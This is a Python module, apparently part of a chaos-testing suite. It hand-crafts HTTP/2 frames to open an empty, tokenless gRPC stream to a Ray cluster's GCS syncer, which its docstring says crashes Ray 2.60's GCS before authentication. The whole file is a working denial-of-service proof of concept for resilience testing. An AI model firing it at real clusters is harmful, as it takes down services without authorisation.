"""What a stranger sends to a port of Ray: a gRPC stream to its syncer that ends before it begins, without a token.

Ray 2.60's GCS aborts on it before the token is looked at. Sent by hand: HTTP/2 needs one frame of headers for it.
"""

import contextlib
import socket
import struct
from typing import Final

from chaos import limits

_PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_SETTINGS: Final = 4
_HEADERS: Final = 1
_END_STREAM: Final = 1
_END_HEADERS: Final = 4
_REQUEST: Final = (
    (":method", "POST"),
    (":scheme", "http"),
    (":path", "/ray.rpc.syncer.RaySyncer/StartSync"),
    (":authority", "ray"),
    ("content-type", "application/grpc"),
    ("te", "trailers"),
)


def send_empty_stream(host: str, port: int) -> None:
    """Send it, and wait until the other side answers or ends. Raises OSError where nobody listens."""
    headers = b"".join(_literal(name) + _literal(value, first=b"") for name, value in _REQUEST)
    request = _PREFACE + _frame(_SETTINGS, 0, 0, b"") + _frame(_HEADERS, _END_HEADERS | _END_STREAM, 1, headers)
    with socket.create_connection((host, port), limits.CHAOS_ATTACK_TIMEOUT_MS / 1_000) as connection:
        connection.sendall(request)
        with contextlib.suppress(TimeoutError, ConnectionError):
            while connection.recv(4_096):
                pass  # settings come first; what kills it comes to its end


def _literal(text: str, first: bytes = b"\0") -> bytes:
    """Encode a header's name, or its value, as it is (RFC 7541: literal, not indexed, no Huffman code)."""
    raw = text.encode("ascii")
    assert len(raw) < 127, "longer ones have another length"
    return first + bytes([len(raw)]) + raw


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
